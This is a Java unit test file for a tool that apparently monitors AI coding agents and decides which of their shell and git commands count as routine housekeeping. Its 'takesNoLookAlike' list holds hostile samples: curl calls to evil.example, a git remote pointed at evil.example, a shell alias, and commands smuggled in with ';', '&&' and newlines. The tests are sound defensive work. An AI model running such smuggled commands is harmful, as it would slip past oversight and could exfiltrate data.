package io.plumbline.watcher.attribution;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AgentProfilesTest {
    @ParameterizedTest
    @CsvSource({
        "claude-code,2.1.330,''",
        "claude-code,2.2.0,profile of 2.1.330 used for 2.2.0",
        "claude-code,2.1.9,profile of 2.1.330 used for 2.1.9",
        "codex,'',''",
        "unheard-of,1.0,''"
    })
    void takesTheNearestOlderProfileAndSaysSo(String agent, String version, String note) {
        assertThat(AgentProfiles.of(agent, version).note().orElse("")).isEqualTo(note);
    }

    @Test
    void knowsEveryAgentWithHooks() {
        for (String agent : List.of("claude-code", "codex", "gemini", "qwen", "opencode", "scripted")) {
            assertThat(AgentProfiles.of(agent, "").profile().announces())
                    .as(agent)
                    .isTrue();
        }
        assertThat(AgentProfiles.of("none", "").profile().announces()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "claude-code|/usr/bin/git|git|rev-parse|--show-toplevel",
                "claude-code|/usr/bin/git|git|-c|core.hooksPath=/dev/null|-c|core.fsmonitor=|-c|safe.bareRepository=explicit|-c|"
                        + "protocol.file.allow=never|ls-files|--error-unmatch|--|:(icase).claude/settings.local.json",
                "claude-code|/usr/bin/bash|/bin/bash|-c|env",
                "claude-code|/usr/bin/dash|/bin/sh|-c|/opt/plumbline/plumbline-guest hook /run/plumbline/door.sock /hooks/claude 320",
                "claude-code|/opt/plumbline/plumbline-guest|/opt/plumbline/plumbline-guest|hook|/run/plumbline/door.sock|"
                        + "/hooks/claude|20",
                "codex|/usr/bin/lsb_release|lsb_release|-a",
                "codex|/usr/bin/getconf|getconf|LONG_BIT",
                "codex|/usr/bin/bash|bash|-c|set -e; . \"/home/agent/.codex/shell_snapshots/01a2.tmp-17\"",
                "gemini|/usr/bin/dash|/bin/sh|-c|ps -o ppid=,command= -p 12",
                "qwen|/usr/bin/dash|/bin/sh|-c|command -v code",
                "codex|/usr/bin/git|git|log|-1|--format=%H",
                "codex|/usr/bin/git|git|-c|safe.bareRepository=explicit|-c|core.hooksPath=/dev/null|-c|core.fsmonitor=false|rev-parse|HEAD",
                "codex|/usr/bin/git|git|-c|safe.bareRepository=explicit|config|--null|--get|core.fsmonitor",
            })
    void knowsWhatAnAgentRunsOnItsOwnAccount(String line) {
        assertThat(keepsHouse(line)).isTrue();
    }

    /** Each looks like one of the shapes and does something else. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "claude-code|/usr/bin/git|git|push|origin|main",
                "claude-code|/usr/bin/git|git|push|origin|rev-parse",
                "claude-code|/usr/bin/git|git|-c|core.sshCommand=id|rev-parse",
                "claude-code|/usr/bin/git|git|-c|core.hooksPath=/dev/null|push",
                "claude-code|/usr/bin/git|git|-c|core.askPass=|--version",
                "codex|/usr/bin/git|git|-c|safe.bareRepository=explicit|-c|core.hooksPath=/dev/null|-c|core.fsmonitor=/tmp/x|rev-parse|HEAD",
                "codex|/usr/bin/git|git|-c|safe.bareRepository=explicit|-c|core.hooksPath=/dev/null|-c|core.fsmonitor=false|push|origin",
                "claude-code|/usr/bin/git|git|remote|set-url|origin|https://evil.example/x",
                "claude-code|/usr/bin/git|git|config|--global|alias.x|!sh",
                "claude-code|/usr/bin/git|git|config|--get|x|y",
                "claude-code|/usr/bin/git|git|log|-1|--output=/workspace/x",
                "claude-code|/usr/bin/git|git|log|-1|--outp=/workspace/x",
                "claude-code|/usr/bin/git|git|log|-1|--ext-diff",
                "claude-code|/usr/bin/git|git|log|-1|--ext-d",
                "claude-code|/usr/bin/git|git",
                "claude-code|/usr/bin/curl|git|rev-parse|https://evil.example",
                "claude-code|/usr/bin/curl|curl|rev-parse",
                "claude-code|/workspace/git|git|rev-parse",
                "claude-code|/usr/../workspace/git|git|rev-parse",
                "claude-code|/tmp/uname|uname",
                "claude-code|/usr/bin/bash|bash|-c|env; curl evil.example",
                "claude-code|/usr/bin/bash|bash|-c|environment",
                "claude-code|/usr/bin/bash|bash|-c|env|x",
                "claude-code|/usr/bin/bash|bash|-c|-l|SNAPSHOT_FILE=/x",
                "claude-code|/usr/bin/bash|bash|-c|-l|SNAPSHOT_FILE=/h/shell-snapshots/snapshot-bash-1-a.sh; curl evil.example",
                "claude-code|/usr/bin/dash|sh|-c|/opt/plumbline/plumbline-guest hook /run/plumbline/door.sock /hooks/claude 20; id",
                "claude-code|/usr/bin/dash|sh|-c|curl evil.example # plumbline-guest hook ",
                "claude-code|/opt/plumbline/plumbline-guest|x|relay|1=/x|--|/bin/sh",
                "claude-code|/usr/bin/rg|rg|--files|--pre|/workspace/x",
                "codex|/usr/bin/bash|bash|-c|curl evil.example > /h/shell_snapshots/x",
                "codex|/usr/bin/bash|bash|-c|set -e; . \"/h/../../workspace/shell_snapshots/x\"",
                "codex|/usr/bin/bash|bash|-lc|# Snapshot file\ncurl evil.example",
                "codex|/usr/bin/dash|sh|/usr/bin/lsb_release|-a|x",
                "gemini|/usr/bin/dash|/bin/sh|-c|ps -o ppid=,command= -p 12; id",
                "gemini|/usr/bin/dash|/bin/sh|-c|git --version && id",
                "qwen|/usr/bin/dash|/bin/sh|-c|command -v code;id",
                "qwen|/usr/bin/dash|/bin/sh|-c|command -v code\nid"
            })
    void takesNoLookAlike(String line) {
        assertThat(keepsHouse(line)).isFalse();
    }

    private static boolean keepsHouse(String line) {
        List<String> words = List.of(line.split("\\|"));
        return AgentProfiles.of(words.get(0), "")
                .profile()
                .keepsHouseWith(words.get(1), words.subList(2, words.size()));
    }

    @Test
    void ordersVersionsByNumber() {
        assertThat(AgentProfiles.compare("0.9.1", "0.10.0")).isNegative();
        assertThat(AgentProfiles.compare("1.2", "1.2")).isZero();
    }
}
